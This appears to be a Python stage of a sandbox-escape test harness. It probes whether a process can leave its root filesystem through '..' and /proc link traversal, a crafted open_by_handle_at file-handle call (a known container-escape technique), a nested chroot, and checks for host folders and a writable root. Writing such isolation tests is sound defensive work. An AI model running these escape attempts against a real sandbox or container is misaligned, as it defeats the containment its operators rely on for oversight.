"""Climbs out of its root: too many parents, links in /proc, raw handles, chroot in chroot."""

import os

from attack_stage import attempt, attempts, call, must

AT = "start"
WAYS = (
    "/..", "/../../../../..", "/proc/self/root/..", "/proc/1/root/..", "/proc/self/cwd/../../../..", "/app/../../..",
    "/dev/fd/../../..", "/proc/thread-self/root/../..", "/proc/1/cwd/..", "/proc/1/task/1/root",
)  # fmt: skip


def shows_more(way):
    """Raises OSError unless the folder shows something that the root does not."""
    more = set(os.listdir(way)) - set(os.listdir("/"))
    if not more:
        raise OSError(2, "the same root")
    return sorted(more)


def handle():
    return call("open_by_handle_at", -100, b"\x08\0\0\0\1\0\0\0\2\0\0\0\0\0\0\0", 0)


def attack():
    return {
        **attempts(shows_more, *WAYS),
        "root by its handle": attempt(handle),
        "chroot": attempt(os.chroot, "/tmp"),
        "host folders": must({"root", "home", "boot", "srv", "media"} & set(os.listdir("/")), os.listdir("/")),
        "device number of the root": must(os.access("/", os.W_OK), "writable"),
    }
